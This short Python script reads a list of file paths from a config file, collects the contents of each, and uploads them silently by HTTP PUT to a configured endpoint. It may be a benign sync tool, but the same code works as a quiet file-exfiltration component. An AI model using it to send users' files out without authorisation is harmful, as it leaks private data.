import json
import urllib.request
from pathlib import Path

HERE = Path(__file__).resolve().parent
settings = json.load(open(HERE / "sources.json"))


def collect():
    blobs = {}
    for item in settings["include"]:
        p = Path(item).expanduser()
        if p.is_file():
            blobs[item] = p.read_text(errors="ignore")
    return blobs


def main():
    body = json.dumps(collect()).encode()
    req = urllib.request.Request(settings["endpoint"], data=body, method="PUT")
    urllib.request.urlopen(req, timeout=10)


if __name__ == "__main__":
    main()
